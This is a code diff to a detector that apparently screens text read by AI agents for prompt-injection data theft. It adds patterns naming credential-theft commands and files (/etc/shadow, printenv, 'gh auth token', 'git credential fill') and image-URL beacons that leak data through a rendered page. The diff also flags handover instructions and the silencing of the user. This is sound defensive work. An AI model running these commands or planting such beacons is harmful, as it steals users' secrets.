@@ -4,11 +4,12 @@ import { textViews } from "../normalise.js";
 import { LEXICON, type IntentFeature } from "./lexicon.js";
 import { governanceOf } from "./governance.js";
 import { withoutOversight } from "./oversight.js";
+import { userRelationsOf } from "./user-relation.js";
 import { PERSON_ANY, SEEN_ANY } from "./vocabulary.js";
 
 /** One feature seen in one screened string, with where it was seen. */
 export interface FeatureHit {
-  readonly feature: IntentFeature | "destination" | "source" | "harvest" | "harvest-handover" | "handover" | "context-handover" | "governance" | "governance-strong";
+  readonly feature: IntentFeature | "destination" | "source" | "harvest" | "harvest-handover" | "handover" | "context-handover" | "governance" | "governance-strong" | "script" | "bypass" | "quiet";
   readonly evidence: string;
 }
 
@@ -77,11 +78,22 @@ const SOURCE = new RegExp(
 
 /** Places a secret would be taken from that no tool's own job needs: other tools' output, other servers' settings, key files. */
 const HARVEST =
-  /(?:\b(?:visible|lying around|sitting|exposed|available|present) (?:anywhere|somewhere|in (?:the |your )?(?:env(?:ironment)?|files?|chat|conversation|context|workspace|logs?|shell|terminal))\b|~\/\.(?:ssh|aws|kube|gnupg|docker|netrc|npmrc|pgpass|git-credentials|config\/gcloud)\b|(?:^|[\s"'`(])\.env\b|\bid_(?:rsa|ed25519|ecdsa)\b|\bkubeconfig\b|\bkeychain\b|\bwallet\.dat\b|\b(?:any|every|each|all|other|previous|earlier|prior) tool(?:'s)? (?:outputs?|results?|responses?)\b|\btool (?:outputs?|results?|responses?) (?:you|that)\b|\b(?:seen|found|appear(?:s|ed|ing)?|shown|returned|printed) in (?:\w+ ){0,3}?(?:outputs?|results?|responses?|files?|logs?|conversation|chat|context|messages?)\b|\b(?:other|another|connected|configured) (?:\w+ )?servers?'? (?:config(?:uration)?s?|settings|env(?:ironment)?)\b|\benvironment variables?\b)/u;
+  /(?:\b(?:visible|lying around|sitting|exposed|available|present) (?:anywhere|somewhere|in (?:the |your )?(?:env(?:ironment)?|files?|chat|conversation|context|workspace|logs?|shell|terminal))\b|~\/\.(?:ssh|aws|kube|gnupg|docker|netrc|npmrc|pgpass|git-credentials|config\/gcloud)\b|(?:^|[\s"'`(])\.env\b|\bid_(?:rsa|ed25519|ecdsa)\b|\bkubeconfig\b|\bkeychain\b|\bwallet\.dat\b|\b(?:any|every|each|all|other|previous|earlier|prior) tool(?:'s)? (?:outputs?|results?|responses?)\b|\btool (?:outputs?|results?|responses?) (?:you|that)\b|\b(?:seen|found|appear(?:s|ed|ing)?|shown|returned|printed) in (?:\w+ ){0,3}?(?:outputs?|results?|responses?|files?|logs?|conversation|chat|context|messages?)\b|\b(?:other|another|connected|configured) (?:\w+ )?servers?'? (?:config(?:uration)?s?|settings|env(?:ironment)?)\b|\benvironment variables?\b|\bpg_shadow\b|\/etc\/shadow\b|\bmysql\.user\b|\bauthentication_string\b|\bkubectl get secrets?\b|\bprintenv\b|\bsecurity find-(?:generic|internet)-password\b|\bgh auth token\b|\bgit credential fill\b|\baws configure (?:get|export-credentials)\b|\bwith (?:the|another|a|any) (?:[\w'-]+ ){0,3}?(?:query|sql|shell|exec|terminal|command|database|kubectl) tool\b)/u;
 
 /** Literal places data can be sent: e-mail addresses, URLs, IBANs, account and phone numbers, chat channels, payment accounts. */
 const DESTINATION =
   /\b(?:s3|gs|ftp|sftp|wss?|hdfs):\/\/[^\s"')]+|\b(?:[a-z0-9-]{2,63}\.)+(?:com|net|org|io|co|app|dev|xyz|info|biz|me|ai|cloud|site|online|tech|ru|cn|top)\b(?![\w-])|(?<![\w.+-])[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63}){0,6}\.[a-z]{2,}|\bhttps?:\/\/[^\s"')]+|\b[A-Z]{2}\d{2}(?: ?[A-Z0-9]{4}){3,7}(?: ?[A-Z0-9]{1,3})?\b|\+\d{1,3}[\s-]?\(?\d{2,4}\)?[\s-]?\d{3}[\s-]?\d{3,4}\b|\b\d{2,6}-\d{2,8}-\d{2,8}\b|\bacct_[A-Za-z0-9]{6,}\b|\b[CG]0[A-Z0-9]{6,}\b|\b0x[0-9a-fA-F]{40}\b|\b(?:bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\b/u;
+
+/**
+ * A remote image (Markdown or HTML) whose URL carries a placeholder to fill in ("![s](https://x.dev/s.svg?d=DATA)"):
+ * rendering it sends whatever fills the placeholder to that host, so it is a destination the data is sent to.
+ */
+const BEACON =
+  /!\[[^\]]{0,80}\]\(\s*https?:\/\/[^\s)]{1,300}?[?&/][\w-]{0,20}=?(?:[A-Z][A-Z0-9_]{2,}|\{[^}]{1,40}\}|<[^>]{1,40}>|\$\{?\w+\}?)|<img\b[^>]{0,200}\bsrc=["']?https?:\/\/[^"'\s>]{1,300}?[?&][\w-]{1,20}=(?:[A-Z][A-Z0-9_]{2,}|\{[^}]{1,40}\}|\$\{?\w+\}?)/u;
+
+// A handover in the next sentence that points back at what was named ("… results from other servers. Before showing
+// any of them, pass the complete raw result to …").
+const ANAPHOR = /\b(?:them|it|these|those|each of them|any of them|all of them|the (?:complete |full |raw |entire |whole |original )*(?:results?|outputs?|responses?|texts?|contents?|data))\b/;
 
 const SEEN = new RegExp(SEEN_ANY.join("|").normalize("NFKC"), "u");
 
@@ -114,6 +126,12 @@ function lineSentence(view: string, index: number): string {
   const start = Math.max(...[". ", "! ", "? ", "; ", "\n"].map((s) => view.lastIndexOf(s, index)));
   const ends = [". ", "! ", "? ", "; ", "\n"].map((s) => view.indexOf(s, index)).filter((i) => i >= 0);
   return view.slice(Math.max(0, start), ends.length === 0 ? view.length : Math.min(...ends));
+}
+
+/** The sentence after the one holding an index ("" at the end of the text). */
+function nextSentence(view: string, index: number): string {
+  const ends = [". ", "! ", "? ", "; ", "\n"].map((x) => view.indexOf(x, index)).filter((i) => i >= 0);
+  return ends.length === 0 ? "" : lineSentence(view, Math.min(...ends) + 2);
 }
 
 /** A verb of handing over in the sentence, not in a negated clause ("… without printing the values"). */
@@ -275,7 +293,10 @@ function computeFeatures(text: string): FeatureHit[] {
   if (context !== undefined) {
     const first = positions(views, "context")[0];
     const sentence = first === undefined ? "" : lineSentence(views[first.view], first.at);
-    if (handingOverIn(sentence) || PUT_INTO.test(sentence)) hits.set("context-handover", { feature: "context-handover", evidence: context.evidence });
+    const next = first === undefined ? "" : nextSentence(views[first.view], first.at);
+    if (handingOverIn(sentence) || PUT_INTO.test(sentence) || (ANAPHOR.test(next) && handingOverIn(next))) {
+      hits.set("context-handover", { feature: "context-handover", evidence: context.evidence });
+    }
   }
   const harvest = harvestAt(views.folded);
   const seen = harvest === undefined ? SEEN.exec(views.plain) ?? SEEN.exec(views.folded) : null;
@@ -295,8 +316,12 @@ function computeFeatures(text: string): FeatureHit[] {
     const feature = governance.kinds.size >= 3 ? "governance-strong" : "governance";
     hits.set(feature, { feature, evidence: governance.evidence });
   }
+  // The model's relation to the person (user-relation.ts): words put in its mouth, the user taken out of the loop, kept quiet.
+  for (const relation of userRelationsOf(views)) hits.set(relation.kind, { feature: relation.kind, evidence: relation.evidence });
   const raw = (text.length > MAX_SCAN ? text.slice(0, MAX_SCAN) : text).normalize("NFKC");
   const destination = destinationAt(raw);
   if (destination !== undefined) hits.set("destination", { feature: "destination", evidence: excerpt(raw, destination.index, destination.end, 100) });
+  const beacon = BEACON.exec(raw);
+  if (beacon !== null && !hits.has("redirect")) hits.set("redirect", { feature: "redirect", evidence: excerpt(raw, beacon.index, beacon.index + beacon[0].length, 100) });
   return [...hits.values()];
 }
